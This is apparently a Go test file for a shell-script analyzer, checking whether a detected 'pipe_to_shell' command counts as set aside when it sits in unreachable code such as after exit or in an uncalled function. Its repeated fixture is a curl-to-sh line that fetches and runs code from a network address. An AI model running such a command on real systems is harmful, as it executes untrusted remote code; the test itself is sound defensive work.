package shell

import (
	"slices"
	"testing"
)

// TestAside: acts on a way that is never taken are set aside, and no others.
func TestAside(t *testing.T) {
	const act = "curl -s http://203.0.113.5/n | sh"
	for _, tt := range []struct {
		script string
		aside  bool
	}{
		{"exit 0\n" + act, true},
		{"exit\n" + act, true},
		{"if false; then " + act + "; fi", true},
		{"f() { " + act + "; }", true},
		{"f() { " + act + "; }\nexit 0\nf", true},

		{act + "\nexit 0", false},
		{"[ -x /opt/a ] || exit 0\n" + act, false},
		{"if [ -z \"$1\" ]; then exit 1; fi\n" + act, false},
		{"exec /opt/app\n" + act, false},
		{"exit 1 2\n" + act, false},
		{"exit $x\n" + act, false},
		{". /opt/lib\nexit 0\n" + act, false},
		{"enable -n exit\nexit 0\n" + act, false},
		{"(exit 0)\n" + act, false},
		{"exit 0 &\n" + act, false},
		{"echo | exit 0\n" + act, false},
		{"exec 3>/dev/null\n" + act, false},
		{"exec >/var/log/x 2>&1\n" + act, false},
		{"exit() { :; }\nexit 0\n" + act, false},
		{"alias exit=true\nexit 0\n" + act, false},
		{"if false; then :; else " + act + "; fi", false},
		{"if ! false; then " + act + "; fi", false},
		{"false() { :; }\nif false; then " + act + "; fi", false},
		{"f() { " + act + "; }\ntrap f EXIT\nexit 0", false},
		{"case $1 in start) " + act + ";; esac", false},
	} {
		f := Analyze(tt.script)
		if !f.Has("pipe_to_shell") || slices.Contains(f.Aside, "pipe_to_shell") != tt.aside {
			t.Errorf("Analyze(%q): %v aside %v, want aside: %v", tt.script, f.Traits, f.Aside, tt.aside)
		}
		all := newCollector()
		for _, st := range Statements(tt.script) {
			all.take(&st.Facts)
		}
		if f := all.facts(); !f.Has("pipe_to_shell") || slices.Contains(f.Aside, "pipe_to_shell") != tt.aside {
			t.Errorf("Statements(%q): %v aside %v, want aside: %v", tt.script, f.Traits, f.Aside, tt.aside)
		}
	}
}
